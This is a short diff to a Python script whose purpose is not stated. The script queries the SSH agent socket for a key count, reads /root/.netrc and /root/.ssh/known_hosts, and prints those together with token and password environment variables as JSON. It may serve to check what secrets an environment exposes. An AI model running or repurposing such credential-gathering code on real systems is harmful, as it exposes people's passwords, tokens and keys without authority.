@@ -21,7 +21,9 @@ def keys():
     if not path or not os.path.exists(path): return None
     agent = socket.socket(socket.AF_UNIX); agent.connect(path)
     agent.sendall(bytes([0, 0, 0, 1, 11]))
-    return int.from_bytes(agent.recv(4096)[5:9], "big")
+    answer = b""
+    while len(answer) < 9: answer += agent.recv(4096) or exit("the agent hung up")
+    return int.from_bytes(answer[5:9], "big")
 names = ["TOKEN", "OTHER", "UV_INDEX_CORP_PASSWORD", "UV_INSECURE_HOST", "GIT_CONFIG_GLOBAL"]
 seen = {"netrc": read("/root/.netrc"), "hosts": read("/root/.ssh/known_hosts"), "keys": keys()}
 print(json.dumps({**seen, **{name: os.environ.get(name) for name in names}}))
